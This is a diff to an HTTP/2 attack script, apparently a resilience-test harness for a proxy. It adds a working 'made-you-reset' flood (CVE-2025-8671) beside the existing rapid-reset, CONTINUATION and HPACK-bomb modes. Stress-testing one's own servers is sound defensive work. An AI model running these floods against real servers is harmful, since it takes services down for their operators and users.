@@ -5,6 +5,8 @@ h2_attack.py HOST PORT ATTACK [HOLD]   prints one JSON object: goaway (its code,
 frames received), heads (HEADERS frames received), closed (the proxy closed the connection), sent (frames sent), seconds.
 
 rapid-reset     HEADERS then RST_STREAM, thousands of times (CVE-2023-44487)
+made-you-reset  HEADERS, then more body than its content-length: the server must reset it itself
+                (CVE-2025-8671), thousands of times
 continuation    HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316)
 hpack-bomb      one 4 KB header entry, then a block referring to it again and again (a few bytes
                 each, megabytes decoded)
@@ -167,6 +169,22 @@ def main():
             if c.goaway is not None or c.closed:
                 break
         c.read(5)
+    elif attack == "made-you-reset":
+        # The server is made to reset each stream itself, after the request went upstream: a body
+        # longer than its content-length is a stream error (RFC 9113 8.1.1), so the client never
+        # sends RST_STREAM (CVE-2025-8671).
+        block = request_block() + lit("content-length", "1")
+        sid = 1
+        for _ in range(50):
+            batch = b"".join(frame(1, 4, s, block) + frame(0, 1, s, b"xx")
+                             for s in range(sid, sid + 200, 2))
+            sid += 200
+            if not c.send(batch, 200):
+                break
+            c.read(0.01)
+            if c.goaway is not None or c.closed:
+                break
+        c.read(3)
     elif attack == "continuation":
         block = request_block()
         c.send(frame(1, 0, 1, block[:10]))
